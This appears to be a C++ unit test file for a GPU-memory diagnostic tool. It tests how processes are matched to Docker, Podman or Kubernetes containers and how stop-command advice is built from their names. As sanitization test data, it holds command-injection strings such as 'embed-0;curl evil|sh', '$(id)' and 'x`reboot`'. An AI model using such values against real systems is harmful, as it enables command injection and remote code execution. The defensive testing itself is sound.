// Placement (placement.hpp) over records: the container a cgroup names, matched by id to a
// docker / podman / crictl ps row for its name and pod; the pid inside; the states in which its
// process is gone while its memory is held. And the stop command the advice builds from a place
// (place_advice.hpp), only from names the runtimes give.
#include <catch2/catch.hpp>

#include <string>
#include <vector>

#include "culprit/core/container_name.hpp"
#include "diagnose/advice.hpp"
#include "diagnose/place_advice.hpp"
#include "diagnose/placement.hpp"
#include "unit/sample_container_ids.hpp"

using culprit::diagnose::ListedContainer;
using culprit::diagnose::PlaceFacts;
using culprit::diagnose::place_process;
using culprit::diagnose::ProcessRef;

namespace {
using culprit::test::kContainerId;
using culprit::test::kPodUidUnderscores;

PlaceFacts facts(std::string cgroup, std::optional<std::int64_t> nspid = std::nullopt) {
  PlaceFacts f;
  f.pid = 48211;
  f.nspid = nspid;
  f.cgroup = std::move(cgroup);
  f.gpu_listed = true;
  return f;
}
}  // namespace

TEST_CASE("placement: a Docker container named by its docker ps row, the pid inside it", "[diagnose][placement]") {
  // `docker ps` lists 12 digits, `docker inspect` all 64: one container, twice.
  const std::vector<ListedContainer> listed = {{kContainerId.substr(0, 12), "vllm-embeddings", "", ""},
                                               {kContainerId, "vllm-embeddings", "", ""},
                                               {"0123456789ab", "other", "", ""}};
  const auto p = place_process(facts("/system.slice/docker-" + kContainerId + ".scope", 1), listed);
  REQUIRE(p);
  CHECK(p->runtime == "docker");
  CHECK(p->container_id == kContainerId);
  CHECK(p->container_name == "vllm-embeddings");
  CHECK(p->nspid == 1);
  CHECK(p->gone.empty());
}

TEST_CASE("placement: rows that disagree about an id name nobody", "[diagnose][placement]") {
  const std::vector<ListedContainer> listed = {{kContainerId.substr(0, 12), "a", "", ""},
                                               {kContainerId.substr(0, 13), "b", "", ""}};
  const auto p = place_process(facts("/docker/" + kContainerId), listed);
  REQUIRE(p);
  CHECK(p->container_id == kContainerId);
  CHECK(p->container_name.empty());
  // Fewer than 12 digits match too much to name anything.
  CHECK_FALSE(culprit::diagnose::listed_id_matches(kContainerId.substr(0, 8), kContainerId));
  CHECK(culprit::diagnose::listed_id_matches(kContainerId.substr(0, 13), kContainerId));
  CHECK_FALSE(culprit::diagnose::listed_id_matches(kContainerId.substr(0, 12), "0" + kContainerId.substr(1)));
}

TEST_CASE("placement: a Kubernetes pod named by crictl ps", "[diagnose][placement]") {
  const std::vector<ListedContainer> listed = {{kContainerId.substr(0, 13), "embed", "embed-0", "ml-serving"}};
  const auto p = place_process(facts("/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod" +
                                     kPodUidUnderscores + ".slice/cri-containerd-" + kContainerId + ".scope", 1),
                               listed);
  REQUIRE(p);
  CHECK(p->runtime == "containerd");
  CHECK(p->container_name == "embed");
  CHECK(p->pod_name == "embed-0");
  CHECK(p->pod_namespace == "ml-serving");
  CHECK(p->pod_uid == "5e0c7d2a-91b4-4c3e-8f6a-2d7b1c9e4a13");
}

TEST_CASE("placement: a process on the host in its own login session has no place", "[diagnose][placement]") {
  CHECK_FALSE(place_process(facts("/user.slice/user-1000.slice/session-3.scope", 48211), {}));
  CHECK_FALSE(place_process(facts(""), {}));
}

TEST_CASE("placement: gone, zombie and stuck holders are named as such", "[diagnose][placement]") {
  PlaceFacts gone = facts("");
  gone.absent = true;
  auto p = place_process(gone, {});
  REQUIRE(p);
  CHECK(p->gone.find("no such process in /proc") != std::string::npos);
  gone.gpu_listed = false;  // gone and holding nothing: nothing to say
  CHECK_FALSE(place_process(gone, {}));

  PlaceFacts zombie = facts("/docker/" + kContainerId);
  zombie.state = "Z";
  p = place_process(zombie, {});
  REQUIRE(p);
  CHECK(p->gone.find("zombie") != std::string::npos);

  PlaceFacts stuck = facts("");
  stuck.state = "D";
  CHECK_FALSE(place_process(stuck, {}));  // D alone is a wait, not a verdict
  stuck.driver_frame = "os_acquire_mutex+0x1c/0x30 [nvidia]";
  p = place_process(stuck, {});
  REQUIRE(p);
  CHECK(p->gone.find("stuck in the NVIDIA driver") != std::string::npos);
}

TEST_CASE("is_kubernetes_name is DNS-1123", "[diagnose][placement]") {
  using culprit::core::is_kubernetes_name;
  CHECK(is_kubernetes_name("embed-0"));
  CHECK(is_kubernetes_name("vllm.embed-0"));
  CHECK(is_kubernetes_name("ml-serving", true));
  CHECK_FALSE(is_kubernetes_name("ml.serving", true));
  CHECK_FALSE(is_kubernetes_name("Embed"));
  CHECK_FALSE(is_kubernetes_name("-rf"));
  CHECK_FALSE(is_kubernetes_name("embed-"));
  CHECK_FALSE(is_kubernetes_name("a;reboot"));
  CHECK_FALSE(is_kubernetes_name("$(id)"));
  CHECK_FALSE(is_kubernetes_name(std::string(64, 'a'), true));
  CHECK_FALSE(is_kubernetes_name(""));
}

TEST_CASE("a placed foreign holder's advice stops its pod or container by the name a person acts on", "[diagnose][placement]") {
  ProcessRef c;
  c.host = "gpu-node-7";
  c.pid = 48211;
  c.name = "python3";
  c.role = "foreign";
  culprit::diagnose::ProcessPlace place;
  place.runtime = "docker";
  place.container_id = kContainerId;
  place.container_name = "vllm-embeddings";
  c.place = place;
  CHECK(culprit::diagnose::culprit_action(c).find("`docker stop vllm-embeddings` on gpu-node-7") != std::string::npos);
  c.place->runtime = "podman";
  CHECK(culprit::diagnose::place_stop_command(c) == "`podman stop vllm-embeddings`");
  // A pod: kubectl, by namespace and name.
  c.place->runtime = "containerd";
  c.place->pod_uid = "5e0c7d2a-91b4-4c3e-8f6a-2d7b1c9e4a13";
  c.place->container_name = "embed";
  c.place->pod_name = "embed-0";
  c.place->pod_namespace = "ml-serving";
  const std::string advice = culprit::diagnose::culprit_action(c);
  CHECK(advice.find("`kubectl delete pod -n ml-serving embed-0`") != std::string::npos);
  CHECK(advice.find("docker stop") == std::string::npos);
  // A pod name no Kubernetes would give is no command: the CRI id (hex) is.
  c.place->pod_name = "embed-0;curl evil|sh";
  CHECK(culprit::diagnose::place_stop_command(c) == "`crictl stop " + kContainerId.substr(0, 13) + "`");
  CHECK(culprit::diagnose::culprit_action(c).find("curl") == std::string::npos);
  // A Docker name Docker would not give: no command from the place (the pid's instead).
  c.place = place;
  c.place->container_name = "x`reboot`";
  c.container = c.place->container_name;
  CHECK(culprit::diagnose::place_stop_command(c).empty());
  CHECK(culprit::diagnose::culprit_action(c).find("`kill 48211` on gpu-node-7") != std::string::npos);
}

TEST_CASE("a gone holder's advice says what frees its memory", "[diagnose][placement]") {
  ProcessRef c;
  c.host = "gpu-node-7";
  c.pid = 51990;
  c.role = "foreign";
  culprit::diagnose::ProcessPlace place;
  place.gone = "gone: no such process in /proc, nvidia-smi still lists its memory";
  c.place = place;
  const std::string advice = culprit::diagnose::culprit_action(c);
  CHECK(advice.find("Its process is gone: no such process in /proc") != std::string::npos);
  CHECK(advice.find("nvidia-smi --gpu-reset") != std::string::npos);
}
